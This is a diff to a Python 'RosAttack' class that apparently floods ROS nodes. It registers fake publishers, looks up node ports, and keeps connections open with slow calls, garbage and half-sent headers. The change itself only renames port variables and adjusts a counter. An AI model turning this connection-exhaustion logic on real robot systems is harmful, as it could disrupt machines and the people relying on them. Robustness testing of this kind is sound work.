@@ -58,11 +58,11 @@ class RosAttack:
         slave.register_function(lambda *_: [1, "", 0], "publisherUpdate")
         threading.Thread(target=slave.serve_forever, daemon=True).start()
         try:
-            api, messages = await asyncio.to_thread(self._register)
+            calls_port, messages_port = await asyncio.to_thread(self._register)
             await asyncio.gather(
-                *(self.attack.keep_connecting(api, behave, 0) for behave in (slow_call, claimed_call, garbage)),
+                *(self.attack.keep_connecting(calls_port, behave, 0) for behave in (slow_call, claimed_call, garbage)),
                 *(
-                    self.attack.keep_connecting(messages, behave, 0)
+                    self.attack.keep_connecting(messages_port, behave, 0)
                     for behave in (claimed_header, half_a_header, garbage)
                 ),
             )
@@ -79,11 +79,11 @@ class RosAttack:
         own = [f"{NODE}/{number}/request_info" for number in range(PIPELINES)]
         for topic in (sessions, *foreign, *own):
             self._ask("registerPublisher", topic, "*", self.uri)
-        api = urlparse(self._ask("lookupNode", cloud)).port
-        node = ServerProxy(f"http://{self.attack.address}:{api}")
+        calls_port = urlparse(self._ask("lookupNode", cloud)).port
+        node = ServerProxy(f"http://{self.attack.address}:{calls_port}")
         answer_topic = next(topic for topic, nodes in publishers if cloud in nodes and topic.endswith("/response_info"))
-        _, _, (_, _, port) = node.requestTopic(NODE, answer_topic, [["TCPROS"]])
-        return api, port
+        _, _, (_, _, messages_port) = node.requestTopic(NODE, answer_topic, [["TCPROS"]])
+        return calls_port, messages_port
 
     def _ask(self, method: str, *arguments: str) -> object:
         code, reason, value = getattr(self.master, method)(NODE, *arguments)
@@ -101,7 +101,8 @@ class RosAttack:
                 await self._ask_for_connections(writer)
             else:
                 await self._claim(writer, OWN_CLAIMED if topic.startswith(NODE) else CLAIMED)
-            self.attack.counts.closed_by_peer += 1
+        # Before the attack is over, only the other side ends such a connection.
+        self.attack.counts.closed_by_peer += self.attack.goes_on()
         writer.close()
 
     async def _handshake(self, reader: asyncio.StreamReader) -> tuple[str, bytes]:
